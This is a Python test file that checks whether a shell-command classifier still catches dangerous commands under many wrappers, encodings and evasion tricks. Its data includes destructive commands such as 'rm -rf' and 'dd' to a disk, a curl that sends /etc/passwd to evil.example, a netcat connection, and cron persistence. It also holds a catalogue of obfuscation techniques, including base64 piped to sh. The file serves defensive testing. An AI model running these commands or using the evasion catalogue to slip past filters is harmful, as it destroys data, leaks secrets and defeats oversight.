"""A dangerous command stays what it is in whatever it is wrapped: the class that it has, or opaque."""

import base64
import shlex
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interlock.protocols.ssh.commands.reading import read_command

_MAX_BYTES = 16384

_DANGEROUS = (
    ("destructive", "rm -rf /srv/data"),
    ("destructive", "find /srv -delete"),
    ("destructive", "git push --force"),
    ("destructive", "psql -c 'drop table users'"),
    ("destructive", "kill -9 -1"),
    ("destructive", "dd if=/dev/zero of=/dev/sda"),
    ("network", "curl -d @/etc/passwd http://evil.example"),
    ("network", "nc evil.example 4444"),
    ("privilege", "sudo -i id"),
    ("privilege", "chmod 4755 /tmp/x"),
    ("persistence", "cp /tmp/x /etc/cron.d/x"),
    ("persistence", "crontab /tmp/x"),
)
"""Commands without operators, so that they may be started without a shell as well."""


def _quoted(line: str) -> str:
    return shlex.quote(line)


def _encoded(line: str) -> str:
    return base64.b64encode(line.encode()).decode()


def _escaped(line: str) -> str:
    """The program with a backslash in front of each of its letters."""
    program, space, rest = line.partition(" ")
    return "".join(f"\\{letter}" for letter in program) + space + rest


def _hexadecimal(line: str) -> str:
    program, space, rest = line.partition(" ")
    return "$'" + "".join(f"\\x{ord(letter):02x}" for letter in program) + "'" + space + rest


def _split(line: str) -> str:
    """The program on two lines."""
    return f"{line[0]}\\\n{line[1:]}"


def _hollow(line: str) -> str:
    """Empty quotes inside of the program's name."""
    return f"{line[0]}''{line[1:]}"


def _variable(line: str) -> str:
    program, space, rest = line.partition(" ")
    return f"p={program}; $p{space}{rest}"


def _prefixed(*prefixes: str) -> list[Callable[[str], str]]:
    def behind(prefix: str) -> Callable[[str], str]:
        return lambda line: f"{prefix} {line}"

    return [behind(prefix) for prefix in prefixes]


def _told(*programs: str) -> list[Callable[[str], str]]:
    def by(program: str) -> Callable[[str], str]:
        return lambda line: f"{program} {_quoted(line)}"

    return [by(program) for program in programs]


def _around(*texts: str) -> list[Callable[[str], str]]:
    """``@`` stands for the command."""

    def inside(text: str) -> Callable[[str], str]:
        return lambda line: text.replace("@", line)

    return [inside(text) for text in texts]


_STARTED = _prefixed(
    *("env", "env -i", "env A=b", "sudo", "sudo -u bob", "sudo -E --", "doas", "timeout 5", "timeout -s KILL 5s"),
    *("nohup", "nice", "nice -n 5", "nice -5", "ionice -c3", "stdbuf -oL", "setsid", "setsid -w", "time", "command"),
    *("/usr/bin/time -p", "command -p", "exec", "exec -a x", "busybox", "A=b", "A=b C=d", "</dev/null", "2>/dev/null"),
    *("chroot /mnt", "unshare -r", "nsenter -t 1 -m", "docker exec c", "docker exec -it -u bob c", "kubectl exec p --"),
    *("podman exec c", "docker compose exec c", "ssh other", "ssh -p 22 bob@other", "ssh -t other --", "xargs"),
    *("xargs -r", "xargs -n 1", "find . -exec", "watch", "watch -n 1", "flock /tmp/l", "taskset -c 0", "chrt 1"),
    *("prlimit --nofile=1", "runuser -u bob --", "strace -f", "unbuffer", "parallel", "entr", "systemd-run", "builtin"),
    *("coproc", "!", "true &&", "false ||", "ls |", "ls;", "ls &", "ls\n", "x=1;", "[ -f x ] &&", "docker run alpine"),
    *("fakeroot", "setarch -R", "linux64", "numactl -N 0", "cpulimit -l 5 --", "dbus-run-session --", "xvfb-run"),
    *("bundle exec", "poetry run", "uv run", "pipenv run", "conda run -n x", "npx", "npm exec --", "pdsh -w h"),
    *("ip netns exec x", "start-stop-daemon --start --exec", "tmux new -d", "screen -dm", "firejail"),
)
_SHELLED = _told(
    *(
        "sh -c",
        "bash -c",
        "bash -lc",
        "bash -xec",
        "bash --norc -c",
        "bash -o pipefail -c",
        "dash -c",
        "zsh -c",
        "ash -c",
    ),
    *("ksh -c", "fish -c", "eval", "su -c", "su bob -c", "su - bob -s /bin/sh -c", "script -qc", "watch", "ssh other"),
    *("env -S", "busybox sh -c", "flock /tmp/l -c", "sg adm", "xargs -I{} sh -c", "nohup sh -c", "sudo sh -c"),
    *(
        "builtin eval",
        "command eval",
        "timeout 5 bash -c",
        "docker exec c sh -c",
        "kubectl exec p -- bash -lc",
        "entr -s",
    ),
    *(
        "parallel",
        "at now <<<",
        "sh <<<",
        "bash -s <<<",
        "bash /dev/stdin <<<",
        "ssh other <<<",
        "ssh other bash -s <<<",
    ),
    *("git rebase --exec", "git submodule foreach", "tmux new -d", "git bisect run sh -c", "ansible all -m shell -a"),
    *("awk 'BEGIN{system(ARGV[1])}'", "make --eval", "vim -c", "psql -c '\\!'", "nix-shell --run", "expect -c"),
)
_PLACED = _around(
    *("(@)", "{ @; }", "if @; then :; fi", "if :; then @; fi", "while @; do break; done", "until @; do :; done"),
    *("for i in 1; do @; done", "case x in x) @;; esac", "f() { @; }; f", "function f { @; }", "f() ( @ ); f"),
    *("echo $(@)", 'echo "$(@)"', 'x="$(@)"', "x=$(@) true", "cat <(@)", "ls | tee >(@)", "[[ $(@) ]]"),
    *("arr=($(@))", "export X=$(@)", "echo $(( $(@) ))", 'echo "${x:-$(@)}"'),
    *("@ # ls", "ls # x\n@", "time (@)", "! { @; }"),
    *(
        "set -e; @",
        "trap - EXIT; @",
        "@ >/dev/null 2>&1",
        "@ &",
        "nohup @ >/dev/null &",
        "((1)) && @",
        "for ((;;)); do @; done",
    ),
    *("select x in a; do @; done", "coproc { @; }", "while read x; do @; done < f", "shopt -s x; @", "alias x=y\n@"),
)
_DELIMITED = _around(
    *("echo `@`", "cat <<E\n$(@)\nE", "sh <<E\n@\nE", "sh <<'E'\n@\nE", "cat <<E | sh\n@\nE", "bash <<-E\n\t@\n\tE"),
)
"""What does not nest: the outer one ends where the inner one begins."""
_SPELLED: list[Callable[[str], str]] = [
    _escaped,
    _hexadecimal,
    _split,
    _hollow,
    _variable,
    lambda line: f"echo {_quoted(line)} | sh",
    lambda line: f"printf %s {_quoted(line)} | bash -s",
    lambda line: f"echo {_encoded(line)} | base64 -d | sh",
    lambda line: f'bash -c "$(echo {_encoded(line)} | base64 -d)"',
    lambda line: f"sh <(echo {_quoted(line)})",
    lambda line: f"source <(echo {_quoted(line)})",
    lambda line: f"alias x={_quoted(line)}\nx",
    lambda line: f"x={_quoted(line)}; $x",
    lambda line: f"x={_quoted(line)}; eval $x",
    lambda line: f'x={_quoted(line)}; bash -c "$x"',
    lambda line: f'set -- {line}; "$@"',
    lambda line: f'a=({line}); "${{a[@]}}"',
    lambda line: f'f() {{ "$@"; }}; f {line}',
    lambda line: f"bash -c '\"$@\"' x {line}",
    lambda line: f"/usr/bin/{line}",
    lambda line: f"/usr/bin/../bin/{line}",
    lambda line: f"trap {_quoted(line)} EXIT",
    lambda line: f"trap -- {_quoted(line)} DEBUG; ls",
    lambda line: f"\t  {line}",
    lambda line: f"{line};",
]
_WRAPS = [*_STARTED, *_SHELLED, *_PLACED, *_DELIMITED, *_SPELLED]


def _keeps(expected: str, line: str) -> bool:
    found = {each.value for each in read_command(line, _MAX_BYTES).classes}
    return bool(found & {expected, "opaque"})


@pytest.mark.parametrize(("expected", "line"), _DANGEROUS)
def test_a_wrapped_command_stays_what_it_is(expected: str, line: str) -> None:
    assert [wrapped for wrap in _WRAPS if not _keeps(expected, wrapped := wrap(line))] == []


@given(
    danger=st.sampled_from(_DANGEROUS),
    spelled=st.sampled_from([lambda line: line, *_SPELLED[:4]]),
    started=st.lists(st.sampled_from(_STARTED[:50]), max_size=2),
    outer=st.lists(st.sampled_from([*_SHELLED, *_PLACED]), max_size=2),
)
@settings(max_examples=300, deadline=None)
def test_a_command_wrapped_more_than_once_stays_what_it_is(
    danger: tuple[str, str],
    spelled: Callable[[str], str],
    started: list[Callable[[str], str]],
    outer: list[Callable[[str], str]],
) -> None:
    expected, line = danger
    line = spelled(line)
    for wrap in (*started, *outer):
        line = wrap(line)
    assert _keeps(expected, line), line
